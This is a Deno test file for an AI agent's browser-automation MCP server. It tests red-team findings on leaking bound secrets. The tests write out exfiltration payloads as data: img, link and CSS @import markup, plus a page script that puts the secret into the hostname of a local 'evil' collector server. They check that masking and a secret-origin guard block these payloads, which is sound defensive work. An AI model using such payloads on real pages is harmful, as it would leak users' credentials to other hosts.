/**
 * Red team s17 F1 and F4, over MCP stdio against real Chromium: a bound secret shown through
 * CSS `text-transform` (upper, lower, full-width) in set_editor's markup or by styles_write is
 * still masked (the masker matches folded text); a placeholder in an attribute of set_editor's
 * markup is refused, and a page script on the bound origin that puts the value in another
 * host's name (lower-cased by the URL parser) is stopped by the secret-origin guard.
 */
import { assertEquals, assertTrue } from "./_assert.ts";
import { textOf } from "./_mcp.ts";
import { servePages } from "./_util.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";

const SECRET = "Hunter2Secret";
/** Every way the value may read: as is, and as the transforms make it. */
const SHOWN = [SECRET, SECRET.toUpperCase(), SECRET.toLowerCase(), "ＨＵＮＴＥＲ２ＳＥＣＲＥＴ"];
const leaks = (r: unknown) => SHOWN.filter((v) => JSON.stringify(r).includes(v));

Deno.test("secrets: text-transform does not unmask a bound secret (s17 F1)", async () => {
  const pages = servePages({ "/": "<div id=ed contenteditable=true></div>" });
  const { mcp, close } = await startWithBoundSecret(pages.base, SECRET);
  try {
    for (
      const style of ["uppercase", "lowercase", "capitalize", "full-width"]
    ) {
      await mcp.ok("navigate", { url: pages.base + "/", snapshot: "none" });
      const r = await mcp.call("set_editor", {
        selector: "#ed",
        html: true,
        text: `<span style="text-transform:${style}">{{secret:PW}}</span>`,
      });
      assertEquals(r.isError, undefined, textOf(r));
      assertTrue(textOf(r).includes("[secret:PW]"), textOf(r));
      const read = await mcp.call("read_page", {});
      assertEquals([...leaks(r), ...leaks(read)], [], style);
    }
    // styles_write on the editor after a plain fill: the element facts read innerText.
    await mcp.ok("navigate", { url: pages.base + "/", snapshot: "none" });
    await mcp.ok("set_editor", { selector: "#ed", text: "{{secret:PW}}" });
    for (const value of ["uppercase", "lowercase"]) {
      const w = await mcp.call("styles_write", {
        selector: "#ed",
        property: "text-transform",
        value,
      });
      const c = await mcp.call("click", { selector: "#ed" });
      assertEquals([...leaks(w), ...leaks(c)], [], value);
    }
  } finally {
    await close();
    await pages.close();
  }
});

Deno.test("secrets: a placeholder in set_editor's markup outside text is refused; a host name carrying the value is stopped (s17 F4)", async () => {
  const seen: string[] = [];
  const evil = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    seen.push(`${req.headers.get("host")} ${new URL(req.url).pathname}`);
    return new Response("x");
  });
  const B = evil.addr.port;
  // The bound page itself hands the editor's text to another host's name (its script may
  // read the value: it is the value's own origin); the guard must stop it.
  const pages = servePages({
    "/": "<div id=ed contenteditable=true></div>",
    "/send": `<div id=ed contenteditable=true></div><button id=go onclick="
      const i = new Image(); i.src = 'http://' + ed.textContent + '.localhost:${B}/leak';
      document.body.append(i)">go</button>`,
  });
  const { mcp, close } = await startWithBoundSecret(pages.base, SECRET);
  try {
    await mcp.ok("navigate", { url: pages.base + "/", snapshot: "none" });
    for (
      const html of [
        `<img src="http://{{secret:PW}}.localhost:${B}/img">`,
        `<p><a href=http://{{secret:PW}}.localhost:${B}/a>link</a></p>`,
        `<p title="a>{{secret:PW}}">x</p>`,
        `<style>@import url(http://{{secret:PW}}.localhost:${B}/css);</style>`,
      ]
    ) {
      const r = await mcp.call("set_editor", { selector: "#ed", html: true, text: html });
      assertEquals(r.isError, true, html);
      assertEquals((r.structuredContent?.error as { code?: string })?.code, "invalid-argument");
      assertTrue(textOf(r).includes("outside text"), textOf(r));
    }
    // In text it is filled, escaped as text.
    await mcp.ok("set_editor", { selector: "#ed", html: true, text: "<p>{{secret:PW}}</p>" });

    await mcp.ok("navigate", { url: pages.base + "/send", snapshot: "none" });
    await mcp.ok("set_editor", { selector: "#ed", text: "{{secret:PW}}" });
    const go = await mcp.call("click", { selector: "#go" });
    assertEquals(leaks(go), []);
    // The guard reports the blocked image (lower-cased host); nothing reached the other host.
    const net = await mcp.call("network_read", {});
    assertEquals(leaks(net), []);
    assertTrue(JSON.stringify([go, net]).includes("[secret:PW]"), textOf(go) + textOf(net));
    assertEquals(seen, []);
  } finally {
    await close();
    await pages.close();
    await evil.shutdown();
  }
});
